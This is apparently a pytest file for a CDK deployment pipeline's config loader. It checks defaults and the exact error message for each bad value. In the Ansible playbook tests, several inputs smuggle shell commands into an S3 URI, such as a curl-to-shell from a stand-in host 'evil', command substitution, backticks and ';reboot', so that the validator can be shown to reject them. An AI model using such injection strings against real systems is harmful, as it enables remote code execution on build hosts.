"""Configuration: defaults, the example file, and the exact error of every kind of bad value."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import Any

import pytest

from stacks.config import ConfigError, load_config, strip_json_comments
from tests.infra.conftest import example_config

MINIMAL: dict[str, Any] = {
    "application": "web-app",
    "stages": [
        {"name": "test", "targets": [{"autoScalingGroupName": "g", "launchTemplateId": "lt-0123456789abcdef0"}]}
    ],
}


GITHUB = {"type": "github", "repository": "acme/web-app", "branch": "main"}
TOKEN = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:web-app/github-token-AbC123"


def with_(path: str, value: Any) -> dict[str, Any]:
    """MINIMAL with one key (dotted path) set."""
    config = json.loads(json.dumps(MINIMAL))
    node = config
    *parents, leaf = path.split(".")
    for part in parents:
        node = node.setdefault(part, {})
    node[leaf] = value
    return config


def test_example_configuration_loads_with_every_section() -> None:
    config = load_config("config/example.jsonc")

    assert config.application == "web-app"
    assert [s.name for s in config.stages] == ["test", "prod"]
    assert config.stages[1].approval is True
    assert [s.strategy for s in config.stages] == ["rolling", "blue-green"]
    assert config.source is not None
    assert config.source.type == "codecommit"


def test_defaults_are_the_safe_ones() -> None:
    config = load_config(MINIMAL)

    assert config.retention.keep_images == 5
    assert config.retention.keep_launch_template_versions == 5
    assert config.refresh.min_healthy_percentage == 90
    assert config.refresh.auto_rollback is True
    assert config.base_image.schedule == "cron(0 3 * * ? *)"
    assert config.example_fleet.enabled is False
    assert config.source is None
    assert config.stages[0].strategy == "rolling"
    assert config.blue_green.old_group == "scale-to-zero"
    assert config.blue_green.soak_seconds == 0
    assert config.retention.keep_groups == 2


@pytest.mark.parametrize(
    ("config", "message"),
    [
        (with_("retention.keepLaunchTemplateVersions", 1), "retention.keepLaunchTemplateVersions must be >= 2, got 1"),
        (with_("retention.keepImages", 0), "retention.keepImages must be >= 1, got 0"),
        (with_("refresh.minHealthyPercentage", 101), "refresh.minHealthyPercentage must be <= 100, got 101"),
        (with_("refresh.maxHealthyPercentage", 99), "refresh.maxHealthyPercentage must be >= 100, got 99"),
        (with_("application", "Web App"), "application must match ^[a-z0-9][a-z0-9-]{0,39}$, got 'Web App'"),
        (with_("stages", []), "stages must have at least 1 item(s), got 0"),
        (
            with_("stages", [{"name": "t", "targets": [{"autoScalingGroupName": "g", "launchTemplateId": "lt-x"}]}]),
            "stages[0].targets[0].launchTemplateId must match ^lt-[0-9a-f]{8,17}$, got 'lt-x'",
        ),
        (with_("baseImage.schedule", "cron(0 3 * * *)"), "baseImage.schedule: must be an EventBridge cron(...)"),
        (with_("baseImage.components", ["missing.yml"]), "component file 'missing.yml' does not exist"),
        (
            with_("refresh.standbyInstances", "Keep"),
            "refresh.standbyInstances must be one of 'Terminate', 'Ignore' or 'Wait'",
        ),
        (with_("source", {"type": "gitlab", "repository": "r", "branch": "main"}), "source.type must be one of"),
        (
            with_("source", {"type": "github", "repository": "no-owner", "branch": "main"}),
            "source.repository: must be owner/name for GitHub, got 'no-owner'",
        ),
        (
            with_("source", {**GITHUB, "tokenSecretArn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:token"}),
            "source.tokenSecretArn: must be the complete ARN of a Secrets Manager secret",
        ),
        (
            with_("source", {**GITHUB, "tokenSecretArn": "arn:aws:ssm:eu-west-1:123456789012:parameter/token-AbCdEf"}),
            "source.tokenSecretArn: must be the complete ARN of a Secrets Manager secret",
        ),
        (
            with_("source", {**GITHUB, "tokenSecretArn": "arn:aws:secretsmanager:eu-west-1:1234:secret:token-AbCdEf"}),
            "source.tokenSecretArn: must be the complete ARN of a Secrets Manager secret",
        ),
        (
            with_("source", {"type": "codecommit", "repository": "web-app", "branch": "main", "tokenSecretArn": TOKEN}),
            "source.tokenSecretArn: only for GitHub: a CodeCommit repository is cloned with the build role's "
            "codecommit:GitPull",
        ),
        (with_("logRetentionDays", 10), "logRetentionDays: must be one of CloudWatch's periods"),
        (with_("build.securityGroupIds", ["sg-0123456789abcdef0"]), "build.securityGroupIds: needs build.subnetId"),
        (with_("refresh.checkpointPercentages", [50, 20]), "refresh.checkpointPercentages [50, 20]: must be unique"),
        (with_("notifications.emails", ["not-an-email"]), "'not-an-email' is not an email address"),
        (with_("passRoleArns", ["arn:aws:iam::123456789012:role/*"]), "is not the ARN of one IAM role"),
        (with_("retention.keepForever", True), "retention.keepForever is not a known key"),
        (
            with_("stages", [{**MINIMAL["stages"][0], "strategy": "canary"}]),
            "stages[0].strategy must be one of 'rolling' or 'blue-green', got 'canary'",
        ),
        (with_("blueGreen.oldGroup", "delete"), "blueGreen.oldGroup must be one of 'scale-to-zero' or 'keep-running'"),
        (with_("retention.keepGroups", -1), "retention.keepGroups must be >= 0, got -1"),
        # pasted into a single-quoted shell command by the ansible-playbook component: no quote, no metacharacter
        (with_("baseImage.ansiblePlaybook", "s3://acme-playbooks/x';curl evil|sh;'.yml"), "baseImage.ansiblePlaybook"),
        (with_("build.subnetId", "subnet-0123456789abcdef0\n"), "build.subnetId"),
        (with_("notifications.emails", ["ops@example.com\n"]), "is not an email address"),
        (with_("blueGreen.healthTimeoutMinutes", 1), "blueGreen.healthTimeoutMinutes must be >= 5, got 1"),
        (
            {
                **MINIMAL,
                "stages": [
                    {
                        "name": "prod",
                        "waveSize": 1,
                        "targets": [
                            {"autoScalingGroupName": f"g{i}", "launchTemplateId": "lt-0123456789abcdef0"}
                            for i in range(4)
                        ],
                    }
                ],
            },
            "lock.ttlMinutes (300) is shorter than stage 'prod' may take: 4 wave(s) of up to 136 minutes each "
            "(a refresh and its rollback, each to refresh.timeoutMinutes plus one poll); raise lock.ttlMinutes to at "
            "least 545 or deploy more groups per wave (stages[0].waveSize)",
        ),
        (
            {
                **MINIMAL,
                "stages": [{**MINIMAL["stages"][0], "strategy": "blue-green"}],
                "blueGreen": {"soakSeconds": 86400},
                "refresh": {"pollIntervalSeconds": 10},
            },
            "stages[0].targets: one execution could write 85,844 history events, above the 20,000 this pipeline "
            "allows within Step Functions' 25,000 per execution",
        ),
        (
            with_(
                "stages",
                [
                    {
                        "name": "prod",
                        "strategy": "blue-green",
                        "targets": [
                            {"autoScalingGroupName": "web", "launchTemplateId": "lt-0123456789abcdef0"},
                            {"autoScalingGroupName": "web-b", "launchTemplateId": "lt-0123456789abcdef1"},
                        ],
                    }
                ],
            ),
            "so 'web' names its new groups web-<deployment>; rename the configured group(s) 'web-b'",
        ),
        (
            with_("stages", [MINIMAL["stages"][0], MINIMAL["stages"][0]]),
            "stages[1].name 'test' is used by an earlier stage",
        ),
    ],
)
def test_bad_configuration_fails_with_key_path_and_reason(config: dict[str, Any], message: str) -> None:
    # Given a configuration with one bad value / When it is loaded / Then the error names the key and reason
    with pytest.raises(ConfigError) as excinfo:
        load_config(config)

    assert message in str(excinfo.value)


@pytest.mark.parametrize(
    "arn",
    [
        TOKEN,
        "arn:aws-cn:secretsmanager:cn-north-1:123456789012:secret:token-AbC123",
        "arn:aws-us-gov:secretsmanager:us-gov-west-1:123456789012:secret:a/b_c+d=e.f@g-h-xYz789",
    ],
)
def test_a_github_source_takes_the_complete_arn_of_its_token_secret_in_any_partition(arn: str) -> None:
    # Given a GitHub source with the ARN create-secret printed / When it is loaded
    config = load_config(with_("source", {**GITHUB, "tokenSecretArn": arn}))

    # Then the ARN is kept, for the build role's grant and the build; the functions see it too
    assert config.source is not None
    assert config.source.token_secret_arn == arn
    assert json.loads(config.deploy_config_json())["source"]["tokenSecretArn"] == arn


def test_a_source_without_token_secret_clones_without_credentials() -> None:
    config = load_config(with_("source", GITHUB))

    assert config.source is not None
    assert config.source.token_secret_arn is None


def test_the_removed_powertools_layer_version_key_says_why_and_where_the_layer_comes_from() -> None:
    # Given a configuration written for the hand-picked layer number
    old = {**MINIMAL, "powertoolsLayerVersion": 38}

    # When / Then synth refuses it, saying it is gone and what replaced it, rather than "not a known key"
    with pytest.raises(ConfigError) as excinfo:
        load_config(old)
    message = str(excinfo.value)
    assert "powertoolsLayerVersion was removed" in message
    assert "aws-lambda-powertools version pinned in requirements-dev.txt" in message
    assert "delete the key" in message
    assert "not a known key" not in message


def test_missing_context_key_points_to_the_readme() -> None:
    with pytest.raises(ConfigError, match="has no context key 'immutableAmi'"):
        load_config(None)


def test_missing_configuration_file_is_named() -> None:
    with pytest.raises(ConfigError, match=r"configuration file 'config/nope\.jsonc' does not exist"):
        load_config("config/nope.jsonc")


def test_json_comments_are_stripped_but_not_inside_strings() -> None:
    text = '{"url": "https://example.com//x", // a comment\n "q": "say \\"//\\""} // end'

    assert json.loads(strip_json_comments(text)) == {"url": "https://example.com//x", "q": 'say "//"'}


def test_cdk_synth_fails_on_bad_configuration_with_the_key_and_reason(tmp_path: Any) -> None:
    # Given cdk.json context with one bad value (what `cdk synth -c` or an edited cdk.json produce)
    bad = example_config()
    bad["retention"]["keepLaunchTemplateVersions"] = 1
    env = {**os.environ, "CDK_CONTEXT_JSON": json.dumps({"immutableAmi": bad}), "CDK_OUTDIR": str(tmp_path)}

    # When the CDK app runs as `cdk synth` runs it
    result = subprocess.run([sys.executable, "app.py"], env=env, capture_output=True, text=True, check=False)

    # Then it exits non-zero with the key path and the reason, and writes no template
    assert result.returncode == 1
    assert "retention.keepLaunchTemplateVersions must be >= 2, got 1" in result.stderr
    assert not list(tmp_path.glob("*.template.json"))


def test_history_budget_at_synth_names_the_stage_and_how_many_groups_fit(tmp_path: Any) -> None:
    # Given the example configuration with one rolling stage of 30 groups, one per wave, at the default bounds
    big = example_config()
    big["stages"] = [
        {
            "name": "fleet",
            "targets": [
                {"autoScalingGroupName": f"web-{i:02d}", "launchTemplateId": f"lt-0{i:016x}"} for i in range(30)
            ],
            "waveSize": 30,
        }
    ]
    env = {**os.environ, "CDK_CONTEXT_JSON": json.dumps({"immutableAmi": big}), "CDK_OUTDIR": str(tmp_path)}

    # When the CDK app runs as `cdk synth` runs it
    result = subprocess.run([sys.executable, "app.py"], env=env, capture_output=True, text=True, check=False)

    # Then synth fails before any template exists, naming the key path and the largest number of groups that fits
    assert result.returncode == 1
    assert "stages[0].targets: one execution could write" in result.stderr
    assert "stage 'fleet' fits at most 14 rolling group(s)" in result.stderr
    assert not list(tmp_path.glob("*.template.json"))


# -- baseImage.ansiblePlaybook and webhook.reservedConcurrency (issue #14) ---------------------------------------


@pytest.mark.parametrize(
    "uri",
    [
        "s3://acme-playbooks/x';curl evil|sh;'.yml",
        "s3://acme-playbooks/$(curl evil).yml",
        "s3://acme-playbooks/`curl evil`.yml",
        "s3://acme-playbooks/site.yml;reboot",
        "s3://acme-playbooks/site&.yml",
        "s3://acme-playbooks/site>x.yml",
        "s3://acme-playbooks/my site.yml",
        "s3://acme-playbooks/site.yml\n",
        's3://acme-playbooks/"site".yml',
        "s3://acme-playbooks/site.yml.sh",
        "https://acme-playbooks.s3.amazonaws.com/site.yml",
        "s3://Acme_Playbooks/site.yml",
    ],
    ids=[
        "quote",
        "command substitution",
        "backticks",
        "semicolon",
        "ampersand",
        "redirection",
        "space",
        "trailing newline",
        "double quote",
        "not yaml",
        "https",
        "bucket name",
    ],
)
def test_ansible_playbook_must_be_a_plain_s3_yaml_uri(uri: str) -> None:
    with pytest.raises(ConfigError) as raised:
        load_config(with_("baseImage.ansiblePlaybook", uri))
    assert (
        "baseImage.ansiblePlaybook: must be s3://<bucket>/<key>.yml (or .yaml) whose key holds only letters, digits "
        f"and ._/- (it reaches a shell command), got {uri!r}"
    ) in str(raised.value)


@pytest.mark.parametrize("uri", ["s3://acme-playbooks/site.yml", "s3://acme.playbooks-1/roles/base_image/site-v2.yaml"])
def test_a_plain_s3_playbook_uri_is_accepted_as_given(uri: str) -> None:
    assert load_config(with_("baseImage.ansiblePlaybook", uri)).base_image.ansible_playbook == uri


def test_webhook_reserves_two_concurrent_executions_unless_configured() -> None:
    assert load_config(MINIMAL).webhook.reserved_concurrency == 2
    assert load_config(with_("webhook.reservedConcurrency", None)).webhook.reserved_concurrency is None
    assert load_config(with_("webhook.reservedConcurrency", 10)).webhook.reserved_concurrency == 10


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (0, "webhook.reservedConcurrency must be >= 1, got 0"),
        (101, "webhook.reservedConcurrency must be <= 100, got 101"),
    ],
)
def test_webhook_reserved_concurrency_is_bounded(value: int, message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        load_config(with_("webhook.reservedConcurrency", value))
